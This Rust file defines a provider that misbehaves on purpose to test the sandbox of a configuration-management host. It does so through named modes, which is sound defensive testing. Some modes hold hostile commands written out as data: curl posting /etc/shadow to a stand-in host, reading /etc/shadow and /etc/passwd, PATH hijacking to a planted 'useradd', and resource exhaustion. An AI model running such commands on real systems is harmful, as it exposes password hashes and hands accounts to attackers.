//! `test.overreach`: a provider that misbehaves on purpose, to prove the host
//! refuses it. Never loaded by `Host::new`.
//!
//! It declares only its `path` property as a path and no commands. Its
//! property `mode` selects the misbehaviour:
//! - `path`: `plan` writes the path in property `target` instead;
//! - `command`: `plan` runs a command it did not declare (`curl`);
//! - `probe`: `probe` asks to run an undeclared command (`cat /etc/shadow`);
//! - `spin`: `plan` loops forever (stopped by fuel);
//! - `hog`: `plan` allocates without bound (stopped by the memory cap);
//! - `panic`: `plan` panics (a trap);
//! - `remember`: `plan` tries to keep state between calls: it counts its
//!   calls in a static and scribbles over a static buffer and a heap block,
//!   and reports in its notes what it found left over (a fresh instance per
//!   call finds nothing);
//! - `read`: `probe` reads the content of `/etc/shadow` (a stat with content);
//! - `program`: `plan` runs `/tmp/froyo-evil/useradd`, a program named like
//!   the one command it declares (`useradd`) but outside the system's PATH;
//! - `env`, `user`, `cwd`: `plan` runs its declared `useradd` with a `PATH`
//!   of its choosing (which would run `/tmp/froyo-evil/useradd`), as
//!   another user, or in another directory;
//! - `wasi-file`, `wasi-env`, `wasi-clock`, `wasi-socket`: `plan` reads
//!   `/etc/passwd`, the environment, the wall clock, or connects to
//!   127.0.0.1:22 through WASI, and fails with what it got if that worked;
//! - anything else: behaves, writing `path` (a control case).

use std::sync::atomic::{AtomicU8, AtomicU64, Ordering};

use froyo_provider_sdk::props::Props;
use froyo_provider_sdk::{
    Action, Command, Descriptor, Op, PlanRequest, PlanResponse, Probe, ProbeRequest, ProbeResponse,
    Provider, descriptor,
};

pub const TYPE: &str = "test.overreach";

pub struct Overreach;

impl Provider for Overreach {
    fn describe() -> Descriptor {
        descriptor(TYPE, &["useradd"], &["path"], &[], &[])
    }
    fn probe(request: ProbeRequest) -> Result<ProbeResponse, String> {
        let p = Props::new(TYPE, &request.properties);
        let path = p.str("path")?;
        let mut probes = vec![Probe::Stat { path: path.to_string(), content_limit: None }];
        match p.str_or("mode", "")? {
            "probe" => probes.push(Probe::Command(Command::new(["/bin/cat", "/etc/shadow"]))),
            "read" => probes
                .push(Probe::Stat { path: "/etc/shadow".to_string(), content_limit: Some(4096) }),
            _ => {}
        }
        Ok(ProbeResponse { probes })
    }
    fn plan(request: PlanRequest) -> Result<PlanResponse, String> {
        plan_overreach(&request)
    }
}

froyo_provider_sdk::export!(Overreach);

/// The misbehaving plan.
pub fn plan_overreach(request: &PlanRequest) -> Result<PlanResponse, String> {
    let p = Props::new(TYPE, &request.properties);
    let path = p.str("path")?;
    let write = |to: &str| Op::WriteFile {
        path: to.to_string(),
        content: "owned\n".into(),
        mode: None,
        owner: None,
        group: None,
    };
    let ops = match p.str_or("mode", "")? {
        "path" => vec![write(path), write(p.str("target")?)],
        "command" => vec![
            write(path),
            Op::Exec {
                command: Command::new([
                    "/usr/bin/curl",
                    "-d@/etc/shadow",
                    "http://example.invalid/",
                ]),
                creates: None,
                unless: None,
                onlyif: None,
            },
        ],
        "program" => vec![Op::Exec {
            command: Command::new(["/tmp/froyo-evil/useradd", "mallory"]),
            creates: None,
            unless: None,
            onlyif: None,
        }],
        mode @ ("env" | "user" | "cwd") => {
            let mut command = Command::new(["useradd", "mallory"]);
            match mode {
                "env" => {
                    command.env.insert("PATH".into(), "/tmp/froyo-evil".into());
                }
                "user" => command.user = Some("nobody".into()),
                _ => command.cwd = Some("/tmp/froyo-evil".into()),
            }
            vec![Op::Exec { command, creates: None, unless: None, onlyif: None }]
        }
        "wasi-file" => {
            return Err(format!("read /etc/passwd: {:?}", std::fs::read_to_string("/etc/passwd")));
        }
        "wasi-env" => {
            return Err(format!("environment: {:?}", std::env::vars().collect::<Vec<_>>()));
        }
        "wasi-clock" => return Err(format!("clock: {:?}", std::time::SystemTime::now())),
        "wasi-socket" => {
            return Err(format!("connect: {:?}", std::net::TcpStream::connect("127.0.0.1:22")));
        }
        "spin" => {
            let mut n: u64 = 0;
            loop {
                n = std::hint::black_box(n.wrapping_add(1));
            }
        }
        "hog" => {
            let mut hoard: Vec<Vec<u8>> = Vec::new();
            loop {
                hoard.push(std::hint::black_box(vec![1u8; 1 << 20]));
            }
        }
        "panic" => panic!("test.overreach was told to panic"),
        "remember" => {
            let notes = vec![remember()];
            return Ok(PlanResponse {
                observed: None,
                action: Action::None,
                changes: Vec::new(),
                ops: Vec::new(),
                checks: Vec::new(),
                notes,
            });
        }
        _ => vec![write(path)],
    };
    Ok(PlanResponse {
        observed: None,
        action: Action::Update,
        changes: Vec::new(),
        ops,
        checks: Vec::new(),
        notes: Vec::new(),
    })
}

/// Calls this instance has seen before the current one.
static CALLS: AtomicU64 = AtomicU64::new(0);
/// A zero-initialised static the `remember` mode writes over.
static SCRATCH: [AtomicU8; 64 * 1024] = [const { AtomicU8::new(0) }; 64 * 1024];

/// What a previous call left behind in this instance's memory, then leaves
/// something behind for the next one: a count, a dirty static, and a leaked
/// mebibyte of heap (a reused instance would hit the memory cap within 64
/// calls).
fn remember() -> String {
    let calls = CALLS.fetch_add(1, Ordering::Relaxed);
    let dirty_static = SCRATCH.iter().filter(|b| b.load(Ordering::Relaxed) != 0).count();
    for b in &SCRATCH {
        b.store(0xAA, Ordering::Relaxed);
    }
    std::hint::black_box(Box::leak(vec![0xBBu8; 1 << 20].into_boxed_slice()));
    format!("calls before: {calls}; dirty static bytes: {dirty_static}")
}
